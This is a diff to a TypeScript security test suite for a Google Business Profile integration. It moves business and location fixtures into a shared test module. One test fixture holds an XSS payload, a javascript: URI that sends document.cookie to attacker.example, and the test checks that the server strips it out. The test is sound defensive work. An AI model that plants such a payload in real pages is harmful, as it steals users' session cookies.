@@ -14,6 +14,7 @@ import { fixedSettingsKey } from '../settings/settings-key';
 import { registerTestAccount, type TestAccount } from '../testing/accounts';
 import { createTestBusiness } from '../testing/businesses';
 import { startGoogleBusinessStandIn, type GoogleBusinessStandIn } from '../testing/google-business-protocol-server';
+import { googleStandInEnv, PRAIRIE_DENTAL, PRAIRIE_STREET, prairieDentalLocation } from '../testing/google-test-business';
 import { DIALECTS } from '../testing/test-databases';
 import { startTestServer, type TestServer } from '../testing/test-server';
 
@@ -38,43 +39,6 @@ vi.mock('../citations/name-normalizer', async (importOriginal) => {
 const ACCOUNT = { name: 'accounts/2001', accountName: 'Prairie Dental Group' };
 const HOUR_MS = 3_600_000;
 const DAY_MS = 86_400_000;
-const STREET = { regionCode: 'US', postalCode: '61820', administrativeArea: 'IL', locality: 'Champaign' };
-
-const DENTAL = {
-  name: 'Prairie Smiles Dental',
-  address: '410 Green Street',
-  city: 'Champaign',
-  state: 'IL',
-  zipCode: '61820',
-  phone: '(217) 555-0144',
-  website: 'https://prairiesmiles.example',
-  category: 'healthcare' as const,
-};
-
-function locationOf(id: string, overrides: Partial<GoogleLocation> = {}): GoogleLocation {
-  return {
-    name: `locations/${id}`,
-    title: 'Prairie Smiles Family Dentistry',
-    storefrontAddress: { ...STREET, addressLines: ['410 Green St'] },
-    phoneNumbers: { primaryPhone: '(217) 555-0144' },
-    categories: { primaryCategory: { name: 'categories/gcid:dentist', displayName: 'Dentist' } },
-    metadata: { mapsUri: `https://maps.google.com/?cid=${id}`, placeId: `place-${id}` },
-    ...overrides,
-  } as GoogleLocation;
-}
-
-function googleEnv(google: GoogleBusinessStandIn): Record<string, string> {
-  return {
-    GOOGLE_BUSINESS_CLIENT_ID: google.clientId,
-    GOOGLE_BUSINESS_CLIENT_SECRET: google.clientSecret,
-    GOOGLE_BUSINESS_AUTH_URL: google.endpoints.authorization,
-    GOOGLE_BUSINESS_TOKEN_URL: google.endpoints.token,
-    GOOGLE_BUSINESS_REVOKE_URL: google.endpoints.revoke,
-    GOOGLE_BUSINESS_ACCOUNTS_URL: google.endpoints.accounts,
-    GOOGLE_BUSINESS_INFORMATION_URL: google.endpoints.businessInformation,
-    GOOGLE_BUSINESS_PERFORMANCE_URL: google.endpoints.performance,
-  };
-}
 
 /** The organization's outside calls for the hour, all spent. */
 async function spendQuota(server: TestServer, organizationId: string, now: Date): Promise<void> {
@@ -95,7 +59,7 @@ describe.each(DIALECTS)('Google Business Profile under attack on %s', (dialect) 
   beforeAll(async () => {
     google = await startGoogleBusinessStandIn({ clock: () => now });
     google.addAccount(ACCOUNT);
-    Object.assign(env, googleEnv(google));
+    Object.assign(env, googleStandInEnv(google));
     server = await startTestServer(dialect, {
       env,
       clock: () => now,
@@ -118,8 +82,8 @@ describe.each(DIALECTS)('Google Business Profile under attack on %s', (dialect) 
     const answer = { code: back.searchParams.get('code'), state: back.searchParams.get('state'), pending: started.body.pending };
     const done = await call<{ status: GoogleBusinessStatus }>(owner, 'POST', '/api/google-business/connection', answer);
     expect(done.status, done.text).toBe(200);
-    const business = await createTestBusiness(server, owner.token, DENTAL);
-    const location = locationOf(String(++nextLocation), overrides);
+    const business = await createTestBusiness(server, owner.token, PRAIRIE_DENTAL);
+    const location = prairieDentalLocation(String(++nextLocation), overrides);
     google.addLocation(ACCOUNT.name, location);
     return { owner, business, location };
   }
@@ -141,7 +105,7 @@ describe.each(DIALECTS)('Google Business Profile under attack on %s', (dialect) 
     expect((await linkTo(second.owner, second.business.id, first.location.name)).status).toBe(200);
 
     for (let edit = 1; edit <= 10; edit += 1) {
-      const renamed = { ...DENTAL, name: `${DENTAL.name} ${edit}` };
+      const renamed = { ...PRAIRIE_DENTAL, name: `${PRAIRIE_DENTAL.name} ${edit}` };
       await server.request('PUT', `/api/businesses/${first.business.id}`, { token: first.owner.token, body: renamed });
       const done = await call(first.owner, 'POST', `/api/businesses/${first.business.id}/google-update`, { fields: ['name'] });
       expect(done.status, done.text).toBe(200);
@@ -204,7 +168,7 @@ describe.each(DIALECTS)('Google Business Profile under attack on %s', (dialect) 
     const huge = 'Prairie Smiles '.repeat(70_000);
     const { owner, business, location, link } = await linked({
       title: huge,
-      storefrontAddress: { ...STREET, addressLines: [huge, huge] },
+      storefrontAddress: { ...PRAIRIE_STREET, addressLines: [huge, huge] },
       metadata: { mapsUri: 'javascript:fetch("https://attacker.example/?"+document.cookie)', placeId: 'place-hostile' },
     });
     expect(link.mapsUrl).toBeNull();
@@ -257,8 +221,8 @@ describe.each(DIALECTS)('Google Business Profile under attack on %s', (dialect) 
     const { owner } = await connected();
     for (let branch = 1; branch <= 4; branch += 1) {
       const name = `Prairie Smiles Branch ${branch}`;
-      await createTestBusiness(server, owner.token, { ...DENTAL, name, phone: `(217) 555-01${50 + branch}` });
-      google.addLocation(ACCOUNT.name, locationOf(String(++nextLocation), { title: name }));
+      await createTestBusiness(server, owner.token, { ...PRAIRIE_DENTAL, name, phone: `(217) 555-01${50 + branch}` });
+      google.addLocation(ACCOUNT.name, prairieDentalLocation(String(++nextLocation), { title: name }));
     }
     normalized.names = 0;
     const listed = await call<{ locations: GoogleLocationView[]; rows: unknown[] }>(owner, 'GET', '/api/google-business/locations');
@@ -288,7 +252,7 @@ describe.each(DIALECTS)('Google Business Profile without a settings key on %s', 
     google = await startGoogleBusinessStandIn({ clock: () => now });
     google.addAccount(ACCOUNT);
     // No settingsKey: the server cannot decrypt the refresh token it holds.
-    server = await startTestServer(dialect, { env: googleEnv(google), clock: () => now, googleBusiness: { sleep: async () => {} } });
+    server = await startTestServer(dialect, { env: googleStandInEnv(google), clock: () => now, googleBusiness: { sleep: async () => {} } });
   });
   afterAll(async () => {
     await server?.close();
@@ -297,8 +261,8 @@ describe.each(DIALECTS)('Google Business Profile without a settings key on %s', 
 
   it('scans a linked business with Google as a failed source, and answers 503 where Google is asked for', async () => {
     const owner = await registerTestAccount(server, { role: 'business_pro' });
-    const business = await createTestBusiness(server, owner.token, DENTAL);
-    const location = locationOf('9001');
+    const business = await createTestBusiness(server, owner.token, PRAIRIE_DENTAL);
+    const location = prairieDentalLocation('9001');
     google.addLocation(ACCOUNT.name, location);
     const { repositories } = server.database;
     await repositories.googleConnections.save({
